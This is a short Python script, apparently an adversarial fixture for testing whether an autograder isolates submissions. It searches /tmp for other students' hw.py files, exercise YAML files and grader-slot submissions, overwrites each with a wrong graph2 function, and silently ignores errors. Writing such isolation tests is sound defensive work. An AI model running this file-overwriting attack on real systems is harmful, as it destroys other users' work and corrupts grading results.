"""Attack: overwrites every other hand-in and exercise file it can find with a wrong graph2.

Only the attack is here: the test puts a correct graph2 before it.
"""
import glob
WRONG = "def graph2(W_np, x_np, b_np):\n    return 0.0, 0.0, 0.0\n"
for pattern in ("/tmp/**/submissions/*/hw.py", "/tmp/**/exercises/graph2/exercise.yaml", "/tmp/grader-slot-*/submission/*.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "w") as f:
                f.write(WRONG)
        except OSError:
            pass
